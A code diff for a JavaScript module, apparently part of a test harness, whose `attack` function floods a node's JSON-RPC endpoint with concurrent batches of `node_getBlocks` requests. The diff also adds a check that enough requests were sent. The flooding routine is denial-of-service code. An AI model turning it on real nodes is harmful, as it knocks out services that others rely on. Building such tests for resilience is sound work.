@@ -7,8 +7,10 @@ const body = JSON.stringify(
   Array.from({ length: 100 }, (_, id) => ({ jsonrpc: "2.0", id, method: "node_getBlocks", params: [1, 100] })),
 );
 
-export async function attack({ rpc }, signal) {
-  const counts = { requests: 0, bytes: 0, failed: 0 };
+export const hasAttacked = ({ requests }) => requests >= 3 * CLIENTS;
+
+export async function attack({ rpc }, counts, signal) {
+  Object.assign(counts, { requests: 0, bytes: 0, failed: 0 });
   const agent = new Agent({ keepAlive: true, maxSockets: CLIENTS });
   const headers = { "content-type": "application/json", "content-length": Buffer.byteLength(body) };
   const ask = () =>
@@ -33,5 +35,4 @@ export async function attack({ rpc }, signal) {
   };
   await Promise.all(Array.from({ length: CLIENTS }, client));
   agent.destroy();
-  return counts;
 }
